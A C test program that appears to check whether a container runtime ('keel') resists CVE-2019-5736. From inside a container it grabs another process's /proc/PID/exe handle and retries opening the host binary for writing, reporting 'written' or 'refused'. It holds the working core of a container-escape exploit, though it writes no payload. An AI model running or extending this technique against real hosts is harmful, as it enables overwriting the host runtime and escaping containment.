/* CVE-2019-5736 from inside a container: catch any process whose executable is
 * not this program or busybox (a `keel exec` before it execs the user program),
 * hold its /proc/PID/exe, and once that process is gone reopen it for writing
 * as the exploit did. Prints "caught N" and "written" or "refused: ERRNO" for
 * the first catch; "none" if nothing was caught within the time given. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int catch_one(const struct stat *self, const struct stat *bb, int *pid_out)
{
    DIR *d = opendir("/proc");
    if (d == NULL)
        return -1;
    struct dirent *de;
    int fd = -1;
    while (fd < 0 && (de = readdir(d)) != NULL) {
        int pid = atoi(de->d_name);
        if (pid <= 1 || pid == getpid())
            continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int f = open(path, O_PATH | O_CLOEXEC);
        struct stat st;
        if (f < 0)
            continue;
        if (fstat(f, &st) == 0 && !(st.st_dev == self->st_dev && st.st_ino == self->st_ino) &&
            !(st.st_dev == bb->st_dev && st.st_ino == bb->st_ino)) {
            fd = f;
            *pid_out = pid;
        } else {
            close(f);
        }
    }
    closedir(d);
    return fd;
}

int main(int argc, char **argv)
{
    double limit = argc > 1 ? atof(argv[1]) : 30;
    struct stat self, bb;
    if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &bb) < 0)
        return 2;
    double start = now();
    int pid = 0, fd = -1;
    while (fd < 0 && now() - start < limit)
        fd = catch_one(&self, &bb, &pid);
    if (fd < 0) {
        printf("none\n");
        return 0;
    }
    printf("caught %d\n", pid);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int err = 0;
    while (now() - start < limit + 10) {
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
            printf("written\n");
            return 0;
        }
        err = errno;
        if (err != ETXTBSY)
            break;
        usleep(10000);
    }
    printf("refused: %s\n", strerror(err));
    return 0;
}
